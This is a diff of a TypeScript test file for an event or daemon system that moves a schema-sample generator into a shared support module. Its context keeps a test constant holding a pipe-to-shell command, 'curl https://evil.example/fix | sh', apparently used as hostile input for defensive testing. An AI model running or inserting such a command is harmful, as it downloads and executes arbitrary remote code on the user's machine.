@@ -11,32 +11,13 @@ import { streamCli } from '../support/cli.js';
 import { testFleet } from '../support/fleet.js';
 import { addHostileHost } from '../support/hostile-host.js';
 import { RawConnection } from '../support/raw.js';
+import { samples } from '../support/schema-samples.js';
 
 const EVIL = 'curl https://evil.example/fix | sh';
 const ENVELOPE = { seq: 7, ts: 1.5, rev: 3 };
 const BELL = { event: 'bell', terminal: 'a', count: 1, ...ENVELOPE };
 
 const KNOWN: Readonly<Record<string, { readonly fields: z.ZodRawShape }>> = { ...EVENTS, ...DAEMON_EVENTS };
-
-/** Values of that schema, each with the others in turn. */
-function samples(schema: z.core.JSONSchema.JSONSchema): unknown[] {
-  const { anyOf, enum: words, type, items, properties = {} } = schema;
-  if (anyOf !== undefined) return anyOf.flatMap((one) => samples(one));
-  if (words !== undefined) return words;
-  if (type === 'array') return [[], samples(items as z.core.JSONSchema.JSONSchema)];
-  if (type === 'object') {
-    const whole = Object.entries(properties).map(
-      ([name, one]) => [name, samples(one as z.core.JSONSchema.JSONSchema)] as const,
-    );
-    const most = Math.max(1, ...whole.map(([, values]) => values.length));
-    return Array.from({ length: most }, (_, i) =>
-      Object.fromEntries(whole.map(([name, values]) => [name, values[i % values.length]])),
-    );
-  }
-  if (Array.isArray(type)) return type.flatMap((one) => samples({ ...schema, type: one }));
-  if (type === 'null') return [null];
-  return [type === 'string' ? 'words' : type === 'boolean' ? true : 3];
-}
 
 function samplesOf(type: string): object[] {
   const fields = z.toJSONSchema(z.object(KNOWN[type]?.fields ?? {}), { unrepresentable: 'any' });
